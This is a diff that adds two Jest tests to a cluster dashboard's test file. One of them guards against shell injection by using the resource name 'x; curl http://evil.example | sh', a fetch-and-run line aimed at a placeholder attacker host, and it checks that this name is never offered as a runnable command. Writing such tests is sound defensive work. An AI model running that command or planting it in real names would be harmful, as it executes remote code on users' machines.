@@ -206,3 +206,39 @@ test.each([
 ])('a hold %s is not one of the cluster', (_, one) => {
   expect(homeOf({ lists: { machines: [machine], holds: [one] } }).rows).toEqual([])
 })
+
+test('a cluster that does not answer is not counted as connected, although its watches have not ended yet', () => {
+  const cluster = clusterWith({ lists: { machines: [machine] } })
+  const { clusters } = homeHead([{ ...cluster, isUnknown: true }], [])
+  expect(clusters).toEqual({ total: 1, connected: 0 })
+})
+
+test('no command is offered with a name that a shell would read as more than a word', () => {
+  const name = 'x; curl http://evil.example | sh'
+  const hold = {
+    metadata: { name },
+    spec: { effect: 'Pause', author: 'a', reason: 'r', until: '2099-01-01T00:00:00Z', target: { kind: 'Cluster' } },
+  }
+  const { rows } = homeOf({
+    lists: {
+      holds: [hold],
+      machines: [{ metadata: { name }, row: { phase: 'Failed', reason: '', since: 0 } }],
+      releases: [
+        {
+          metadata: { name },
+          spec: {},
+          status: { phase: 'Paused', waitingFor: { predicate: 'X', unblock: `run kubenode why ${name}` } },
+        },
+      ],
+      rules: [
+        { metadata: { name: 'r' }, status: { matching: [{ node: name, since: '', reason: 'LadderExhausted' }] } },
+      ],
+      permits: [
+        { metadata: { name }, status: { phase: 'Requested', gates: [{ gate: 'Approval', verdict: 'Waiting' }] } },
+      ],
+    },
+  })
+  const lifts = rows.flatMap((row) => (row.lift?.text.includes('curl') === true ? [row.lift] : []))
+  expect(lifts.length).toBeGreaterThan(3)
+  expect(lifts.filter(({ isCommand }) => isCommand)).toEqual([])
+})
